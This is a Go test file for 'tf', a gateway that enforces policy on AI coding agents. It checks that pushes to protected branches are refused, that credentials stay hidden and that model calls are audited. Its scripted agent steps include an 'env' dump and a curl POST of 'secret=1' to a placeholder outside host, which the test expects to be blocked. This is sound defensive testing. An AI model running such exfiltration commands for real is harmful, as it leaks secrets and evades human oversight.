//go:build linux

package main

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/tameflare/tf/audit"
	"github.com/tameflare/tf/rules"
)

// The helpers below serve the end-to-end tests of Codex CLI and Gemini
// CLI under tf run: a working directory to push from, and the checks every
// agent's session must pass.

// scriptedWork is the agent's working directory: a clone of acme/app,
// served by git http-backend as github.com, with one commit not pushed.
type scriptedWork struct {
	dir              string
	repo             *gitRepo
	up               *upstream // github.com, api.github.com, other.example.test
	head, mainBefore string
}

func newScriptedWork(t *testing.T) *scriptedWork {
	t.Helper()
	repo := newGitRepo(t)
	w := &scriptedWork{repo: repo, up: newUpstream(t, repo.root), dir: filepath.Join(t.TempDir(), "app")}
	repo.git(repo.root, "clone", "-q", repo.bare, w.dir)
	repo.git(w.dir, "remote", "set-url", "origin", "https://github.com/acme/app.git")
	os.WriteFile(filepath.Join(w.dir, "README"), []byte("v2\n"), 0o644)
	repo.git(w.dir, "commit", "-q", "-am", "second")
	w.head = repo.git(w.dir, "rev-parse", "HEAD")
	w.mainBefore = repo.ref("main")
	return w
}

// scriptedSteps are the shell commands both agents' stand-in models ask
// for, one per turn; checkSteps checks what came of them.
var scriptedSteps = []string{
	"env",
	"git push origin HEAD:main",
	"git push origin HEAD:refs/heads/feature/x",
	"curl -sS -X POST --data secret=1 https://other.example.test/upload",
}

// checkSteps checks the tool results of scriptedSteps, and what reached
// the upstreams: step 0's environment shows envWants (the key's
// placeholder, the proxy, the CA); the push to main is refused with its
// rule and reason and main does not move; the push to feature/x lands;
// the POST to a host no rule names is refused and never arrives.
func (w *scriptedWork) checkSteps(t *testing.T, results []string, envWants ...string) {
	t.Helper()
	expect := func(step int, wants ...string) {
		t.Helper()
		for _, want := range wants {
			if !strings.Contains(results[step], want) {
				t.Errorf("step %d (%s): the model did not receive %q:\n%s", step, scriptedSteps[step], want, results[step])
			}
		}
	}
	expect(0, envWants...)
	expect(1, "protect-main", "Protected branches change through pull requests.")
	if w.repo.ref("main") != w.mainBefore {
		t.Error("main moved upstream")
	}
	if got := w.repo.ref("feature/x"); got != w.head {
		t.Errorf("feature/x is %q upstream, want %s", got, w.head)
	}
	expect(3, "tf refused http.post", "the policy default is deny")
	if _, hit := w.up.authFor("other.example.test /upload"); hit {
		t.Error("the refused POST reached other.example.test")
	}
}

// checkAgentSession checks what every governed agent session must show:
// each model call reached the stand-in with the key tf holds (auths, as
// sent upstream, each equal to wantAuth); the key appears in nothing the
// agent or a person sees (the tool results, tf run's output, tf logs, the
// audit log); tf logs shows the model calls with their tokens (logsRE);
// every model call was classified by the agent's connector and allowed,
// and its outcome carries the usage.
func checkAgentSession(t *testing.T, home, gateway string, r result, results, auths []string, wantAuth, key, logsRE, connector string) {
	t.Helper()
	if len(auths) == 0 {
		t.Fatal("no model call reached the stand-in")
	}
	for _, a := range auths {
		if a != wantAuth {
			t.Errorf("a model call carried the credential %q, want the key tf holds", a)
		}
	}
	logs := runTFIn(t, t.TempDir(), home, nil, "logs", "--gateway", gateway)
	logsJSON := runTFIn(t, t.TempDir(), home, nil, "logs", "--json")
	seen := map[string]string{"tf run's stdout": r.stdout, "tf run's stderr": r.stderr, "tf logs": logs.stdout, "the audit log": logsJSON.stdout,
		"the tool results": strings.Join(results, "\n")}
	for name, out := range seen {
		if strings.Contains(out, key) {
			t.Errorf("%s holds the model's key", name)
		}
	}
	if !regexp.MustCompile(logsRE).MatchString(logs.stdout) {
		t.Errorf("tf logs does not show the model calls' tokens (%s):\n%s%s", logsRE, logs.stdout, logs.stderr)
	}
	modelCalls := 0
	for _, rec := range decisions(t, home) {
		a, d := rec.Action, rec.Decision
		t.Logf("%s %s %s%s -> %s (%s)", rec.Gateway, a.Type, a.Request.Host, a.Request.Path, d.Effect, d.Rule)
		if a.Connector == connector && a.Type != "" && d.Effect == rules.Allow && strings.Contains(logsRE, strings.ReplaceAll(a.Type, ".", `\.`)) {
			modelCalls++
			if d.Rule != "agent-model-calls" || a.Params["model"] == nil {
				t.Errorf("model call %s: rule %q, params %v", a.Type, d.Rule, a.Params)
			}
		}
	}
	if modelCalls == 0 {
		t.Errorf("no %s model call was allowed", connector)
	}
	var usages []audit.Usage
	err := audit.Scan(filepath.Join(home, "audit"), audit.Filter{Kind: audit.KindOutcome}, func(rec *audit.Record) error {
		if rec.Usage != nil {
			usages = append(usages, *rec.Usage)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(usages) < modelCalls {
		t.Errorf("%d outcomes carry usage, for %d model calls", len(usages), modelCalls)
	}
	for _, u := range usages {
		if u.Input == 0 || u.Output == 0 || u.Model == "" || u.Unknown != "" {
			t.Errorf("usage of a model call = %+v", u)
		}
	}
}

// runPreset writes the starter of tf init --agent agent, runs the agent
// under it (args: tf run's flags, then -- and the agent's command line)
// and checks that it exits 0 governed by that policy, and that each
// action type in want was decided as want says ("allow agent-model-calls").
func runPreset(t *testing.T, agent string, env, args []string, want map[string]string) result {
	t.Helper()
	home := t.TempDir()
	env = append(clientEnv(t), env...)
	dir := filepath.Join(t.TempDir(), "policy")
	if r := runTFIn(t, t.TempDir(), home, env, "init", "--agent", agent, dir); r.code != 0 {
		t.Fatalf("tf init --agent %s: exit %d\n%s", agent, r.code, r.stderr)
	}
	fixture := absPath(t, filepath.Join("testdata", map[string]string{"codex": "codex", "gemini": "gemini-cli"}[agent]))
	args = append([]string{"run", "--name", agent, "--policy", dir, "--ro", fixture}, args...)
	r := startTFWithin(t, 2*time.Minute, t.TempDir(), home, env, args...).wait(t)
	if r.code != 0 || !strings.Contains(r.stderr, "governing with policy "+dir) {
		t.Fatalf("tf run --policy (tf init --agent %s): exit %d\nstdout:\n%s\nstderr:\n%s", agent, r.code, r.stdout, r.stderr)
	}
	got := map[string]string{}
	for _, rec := range decisions(t, home) {
		if _, ok := want[rec.Action.Type]; ok {
			got[rec.Action.Type] = string(rec.Decision.Effect) + " " + rec.Decision.Rule
		}
	}
	for typ, w := range want {
		if got[typ] != w {
			t.Errorf("under tf init --agent %s, %s was decided %q, want %q", agent, typ, got[typ], w)
		}
	}
	return r
}
